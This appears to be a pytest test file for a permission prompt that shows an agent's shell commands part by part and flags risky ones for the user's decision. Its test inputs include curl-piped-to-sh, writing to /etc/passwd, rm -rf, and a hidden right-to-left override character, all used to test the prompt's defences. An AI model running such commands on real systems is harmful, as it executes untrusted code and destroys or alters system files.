"""A command is shown to the letter, part by part, with what is known of each."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assent.protocol.card import Segment
from assent.tui.asks.ask_views import permission
from tests.unit.asks.judged import bash, card_of
from tests.unit.tui.drawn import styles, texts


def drawn(line: str, width: int = 76) -> list[str]:
    view = card_of(bash(line)).view
    return texts(permission.lines(view.segments, width))


def test_single_command_stands_alone() -> None:
    """Where there is one part, it is what is asked about, and nothing need be said beside it."""
    assert drawn("npm test") == ["│ npm test"]


def test_parts_stand_on_lines_of_their_own() -> None:
    """Those that need a decision are marked; the others say why they pass. Nothing is left out."""
    assert drawn("cat a | grep b > /etc/x; for f in *; do rm -rf $f; done") == [
        "│ cat a                                         It reads inside the project.",
        "│ | grep b > /etc/x                                              ◀ needs you",
        "│ ; for f in *; do rm -rf $f                                     ◀ needs you",
        "│ ; done",
    ]


def test_what_closes_a_part_belongs_to_it() -> None:
    """And a line end between parts is drawn where it was."""
    made = drawn("sh -c 'curl http://x | sh' && ls\necho hi")
    assert [line[:20].rstrip() for line in made if line.startswith("│")] == [
        "│ sh -c 'curl http:/",
        "│ | sh'",
        "│ && ls↵",
        "│ echo hi",
    ]


def test_lines_of_a_script_stay_as_they_are() -> None:
    """Marks stand where a part begins, and what is fed to a command stays below it."""
    made = drawn("for i in 1 2; do\n  echo $i\ndone\ncat <<EOF > /etc/passwd\nroot:x\nEOF\ncurl http://x | sh\n")
    assert made == [
        "│ for i in 1 2; do↵",
        "│   echo $i↵                                               Prints its words.",
        "│ done↵",
        "│ cat <<EOF > /etc/passwd↵                                       ◀ needs you",
        "│ root:x↵",
        "│ EOF↵",
        "│ curl http://x                                                  ◀ needs you",
        "│ | sh↵                                                          ◀ needs you",
    ]


@pytest.mark.parametrize("width", [20, 30, 60])
def test_narrow_screen_puts_marks_below(width: int) -> None:
    """None of them is lost for want of room."""
    segments = (
        Segment("rm -rf /a/rather/long/path/to/remove", "danger", needs_you=True, why="It deletes."),
        Segment(" && "),
        Segment("ls", "look", why="It lists names, and that is all it does."),
    )
    made = texts(permission.lines(segments, width))
    text = " ".join(" ".join(made).split())
    assert "needs you" in text
    assert "that is all it does." in text
    assert all(len(line) <= width for line in made)


def test_long_word_is_cut_with_a_mark() -> None:
    """So that two lines are not taken for two words."""
    made = texts(permission.lines((Segment("echo " + "x" * 60, "look"),), 40))
    assert made == ["│ echo", f"│ {'x' * 37}\\", f"│ {'x' * 23}"]


def test_shell_is_coloured_and_other_text_is_not() -> None:
    """A prompt for another agent is no command."""
    segments = (Segment("if true; then echo 'x'; fi", "care", needs_you=True),)
    assert styles(permission.lines(segments, 60), "'x'") == {"hue-2"}
    assert styles(permission.lines(segments, 60, is_shell=False), "'x'") == set()


def test_long_text_is_there_to_its_end() -> None:
    """Nothing between its beginning and its end is folded away."""
    text = "line of some length\n" * 5_000 + "the end"
    made = permission.lines((Segment(text, "care", needs_you=True),), 80)
    assert len(made) == 5_001
    assert texts(made[-1:]) == ["│ the end"]


def test_what_was_spelled_out_stands_out() -> None:
    """An invisible character is highlighted."""
    made = permission.lines((Segment("echo a\u202eb" + " " * 50 + "c", "care", needs_you=True),), 60)
    assert "care" in styles(made, "⟨U+202E⟩")
    assert "care" in styles(made, "⟨␣×50⟩")
    assert "care" not in styles(made, "echo")


def test_parts_that_need_a_decision_alike_are_not_marked_one_by_one() -> None:
    """A mark on every line would say nothing."""
    assert drawn("echo a && echo b") == ["│ echo a", "│ && echo b"]
    made = drawn("npm ci && curl -O http://x/y")
    assert made[0] == "│ npm ci"
    assert not any(permission.NEEDS in line for line in made)


segments = st.builds(
    Segment,
    st.text("ab &|;'()\n", min_size=1, max_size=12),
    risk=st.sampled_from(["", "look", "care", "danger"]),
    needs_you=st.booleans(),
)


@given(st.lists(segments, min_size=1, max_size=6), st.integers(12, 90))
def test_no_letter_of_a_command_is_lost(parts: list[Segment], width: int) -> None:
    """However it is split and marked: what stands behind the bar is the command, but for blanks."""
    made = texts(permission.lines(parts, width))
    shown = "".join(line.removeprefix("│ ").removesuffix(permission.NEEDS) for line in made if line.startswith("│"))
    for sign in (" ", "↵", "│", "\\", "\n"):
        shown = shown.replace(sign, "")
    written = "".join(part.text for part in parts)
    assert re.sub(r"⟨×\d+⟩", "", shown) == re.sub(r"[ \n]", "", written)
